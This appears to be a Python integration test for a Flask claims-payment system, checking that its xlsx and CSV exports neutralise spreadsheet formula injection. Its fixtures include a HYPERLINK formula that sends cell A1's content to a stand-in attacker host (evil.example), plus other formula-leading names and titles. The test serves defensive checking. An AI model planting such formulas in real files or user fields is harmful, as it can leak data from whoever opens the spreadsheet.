"""Formula injection through HTTP (issue 17 item 5): names, a bank name typed at account
correction, a notice's title and contact, a target's note and a process note that start with
= + - @ tab or CR are downloaded from every file the product serves, and no cell of any of them
is a formula or starts one; the hostile text is there, neutralised (a leading apostrophe).

The files: the bank file (xlsx and CSV) after an account correction, the notice as CSV and
xlsx, the notice archive, the public disclosure list, the reconciliation report and every
export kind (ledgers, list pages, the users list), each downloaded as its reader would."""

from __future__ import annotations

import io
import re
from datetime import timedelta
from typing import Any

from flask.testing import FlaskClient
from stdnum.cn import ric

from tests.conftest import NOW, PASSWORD
from tests.integration.api.test_enterprise_claims import (
    as_enterprise,
    enterprise_body,
    roster,
    worker,
)
from tests.integration.helpers import actors_of, decide
from tests.integration.pages.conftest import claim_body, post
from tests.sheets import cells_of, live_formulas
from web.db import runtime, sessions
from workflow.persistence.models import Claim, ProcessDefinition
from workflow.services import exports, ledgers, users

BANK = '=HYPERLINK("http://evil.example/?"&A1,"开户行")'
# The applicants' names (as registered and on their claims), by the stage their claim reaches.
NAMES = {"paid": "+1", "corrected": "@SUM(1)", "awaiting": "-1", "township": "\t=1+1"}
SECRET = "plum tractor quietly 1987"
TITLE, OFFICE, NOTE = '=HYPERLINK("http://evil.example","公示")', "@人社局", "-2+3"
# Who asks for each export kind, its parameters, and the hostile text it must show.
KINDS: dict[str, tuple[str, dict[str, str], str]] = {
    "training": ("bureau", {"year": "2026"}, "'@SUM(1)"),
    "employment": ("bureau", {}, "'+1"),
    "queue": ("township", {}, "'\t=1+1"),
    "my_claims": ("applicant", {}, "'-TZ-CORRECTED"),
    "awaiting": ("bureau", {}, "'-1"),
    "batches": ("finance", {}, ""),  # numbers, counts and times only
    "batch_lines": ("finance", {"batch_id": "2"}, "'" + BANK),
    "users": ("admin", {}, "'\r=1+1"),
    "processes": ("admin", {}, "'" + NOTE),
    "targets": ("admin", {"pack": "pengyang", "year": "2026"}, "'" + NOTE),
    "roster": ("bureau", {}, "'@SUM(2)"),  # an enterprise's worker
}


def _id_number(serial: int) -> str:
    body = f"64222619900101{serial:03d}"
    return body + ric.calc_check_digit(body + "0")


def _register(client: FlaskClient, stage: str, serial: int) -> dict[str, str]:
    """An applicant registered through the API (tab and CR survive JSON, not a form)."""
    name = NAMES[stage]
    answer = client.post("/api/v1/auth/register", json={
        "username": f"applicant_{stage}", "password": SECRET, "full_name":
        name if stage != "township" else "\r=1+1", "id_number": _id_number(serial),
        "phone": "13800000000"})
    assert answer.status_code == 202, answer.json  # the same answer for any ID number
    token = client.post("/api/v1/auth/login", json={
        "username": f"applicant_{stage}", "password": SECRET}).json["token"]
    headers = {"Authorization": f"Bearer {token}"}
    filed = client.post("/api/v1/claims", headers=headers, json=claim_body(
        full_name=name, account_holder=name, id_number=_id_number(serial),
        certificate_number=f"-TZ-{stage.upper()}", account_number=f"62284800000000{serial:05d}"))
    assert filed.status_code == 201, filed.json
    return headers


def _claims(app: Any) -> dict[str, Claim]:
    with sessions(app)() as s:
        return {c.full_name: c for c in s.query(Claim)}


def _task(client: FlaskClient, claim_id: int, **data: str) -> Any:
    page = client.get(f"/claims/{claim_id}").get_data(as_text=True)
    version = re.search(r'name="version" value="(\d+)"', page).group(1)
    form = re.search(r'name="form" value="(\w+)"', page).group(1)
    action = re.search(r'action="(/claims/\d+/tasks/[0-9a-f-]+)"', page).group(1)
    return post(client, action, {"version": version, "form": form, **data},
                form_page=f"/claims/{claim_id}")


def _batch(finance: FlaskClient, checker: FlaskClient) -> str:
    url = post(finance, "/finance/batches", {}, form_page="/finance/batches").headers["Location"]
    assert post(checker, url + "/approve", {}, form_page=url).status_code == 302
    return url


def _files(app: Any, browser: Any) -> dict[str, bytes]:
    """Drive the claims to every stage and download every file on the way."""
    f, rt, clock = sessions(app), runtime(app), app.extensions["test.clock"]
    client = app.test_client()
    for serial, stage in enumerate(NAMES, start=1):
        _register(client, stage, serial)
    firm = enterprise_body(name="=1+2", account_holder="=1+2")
    headers = as_enterprise(client, body=firm)
    assert client.post("/api/v1/enterprise/claims", headers=headers, json=roster(
        worker(0, full_name="@SUM(2)"))).status_code == 201
    with f.begin() as s:
        users.create_user(s, "finance2", PASSWORD, "finance_officer", "财务复核", NOW)
        s.query(ProcessDefinition).update({"note": NOTE})
    people, claims = actors_of(f), _claims(app)
    for stage in ("paid", "corrected", "awaiting"):
        for reviewer in ("township", "department", "bureau"):
            decide(f, rt, people[reviewer], claims[NAMES[stage]].id, "approve")
    bureau, finance, checker = browser("bureau"), browser("finance"), browser("finance2")
    ids = [str(claims[NAMES[s]].id) for s in ("paid", "corrected")]
    published = post(bureau, "/bureau/notices", {
        "title": TITLE, "starts_on": "2026-11-02", "working_days": "5", "contact_office": OFFICE,
        "contact_phone": "+86 0954-7000000", "contact_address": "彭阳县", "claim_ids": ids},
        form_page="/bureau/notices/new")
    assert published.status_code == 302, published.get_data(as_text=True)
    notice = published.headers["Location"]
    clock[0] += timedelta(days=10)
    assert browser("admin").post("/api/v1/admin/timers/fire", json={}).json["fired"]
    first = _batch(finance, checker)
    files = {"bank-first.xlsx": post(finance, first + "/bank.xlsx", {}, form_page=first).data}
    refs = {s: claims[NAMES[s]].reference for s in ("paid", "corrected")}
    result = f"业务参考号,状态,失败原因\n{refs['paid']},成功,\n{refs['corrected']},失败,E12\n"
    imported = post(finance, first + "/results",
                    {"results": (io.BytesIO(result.encode()), "回盘.csv")}, form_page=first)
    assert imported.status_code == 200
    # The applicant corrects the account on the claim page, with a formula for a bank name.
    corrected = app.test_client()
    assert post(corrected, "/login", {"username": "applicant_corrected",
                                      "password": SECRET}).status_code == 302
    answer = _task(corrected, claims[NAMES["corrected"]].id, decision="resubmit", bank_name=BANK,
                   account_number="6228480000000099999", account_holder=NAMES["corrected"])
    assert answer.status_code == 302, answer.get_data(as_text=True)
    second = _batch(finance, checker)
    assert second.endswith("/2")
    files["bank.xlsx"] = post(finance, second + "/bank.xlsx", {}, form_page=second).data
    files["bank.csv"] = post(finance, second + "/bank.csv", {}, form_page=second).data
    public = browser(None)
    files["notice.csv"] = public.get(notice + "/csv").data
    files["notice.xlsx"] = public.get(notice + "/xlsx").data
    files["notices.xlsx"] = public.get("/notices.xlsx").data
    files["disclosure.xlsx"] = public.get("/disclosure.xlsx?period=2026-11").data
    files["reconciliation.xlsx"] = finance.get("/finance/reconciliation.xlsx").data
    admin = browser("admin")
    assert post(admin, "/admin/targets", {"pack": "pengyang", "year": "2026", "code": "task-01",
                                          "first_year": "2026", "value": "3", "note": NOTE},
                form_page="/admin/targets").status_code == 302
    return files | _exports(app, browser)


def _exports(app: Any, browser: Any) -> dict[str, bytes]:
    """Every export kind, asked for on its page, built by the worker, then downloaded."""
    clients = {who: browser(who) for who in {who for who, _, _ in KINDS.values()}
               if who != "applicant"}
    clients["applicant"] = app.test_client()
    assert post(clients["applicant"], "/login", {"username": "applicant_corrected",
                                                 "password": SECRET}).status_code == 302
    jobs = {}
    for kind, (who, params, _) in KINDS.items():
        started = post(clients[who], "/exports", {"kind": kind, **params}, form_page="/exports")
        assert started.status_code == 303, (kind, started.get_data(as_text=True))
        jobs[kind] = started.headers["Location"]
    exports.run_pending(sessions(app), runtime(app).clock, limit=len(KINDS))
    return {kind: clients[KINDS[kind][0]].get(jobs[kind] + "/file").data for kind in KINDS}


def test_no_downloaded_cell_is_or_starts_a_formula(app, browser):
    assert set(KINDS) == set(ledgers.KINDS)  # a new export kind must be added here
    files = _files(app, browser)
    cells = {name: cells_of(data) for name, data in files.items()}
    assert {name: live_formulas(found) for name, found in cells.items()} == \
        {name: [] for name in files}
    texts = {name: {v for v, _ in found if isinstance(v, str)} for name, found in cells.items()}
    # The hostile text is in each file, neutralised: the test sees what it guards.
    expected = {"bank.xlsx": "'" + BANK, "bank.csv": "'" + BANK, "bank-first.xlsx": "'+1",
                "notice.csv": "'@SUM(1)", "notice.xlsx": "'" + OFFICE,
                "notices.xlsx": "'" + TITLE, "disclosure.xlsx": "'+1",
                **{kind: text for kind, (_, _, text) in KINDS.items() if text}}
    assert {name: text for name, text in expected.items() if text not in texts[name]} == {}
    assert "'@SUM(1)" in texts["bank.csv"] and "'+86 0954-7000000" in texts["notice.csv"]
    assert any(t == "n" for _, t in cells["notice.xlsx"])  # amounts stay numbers
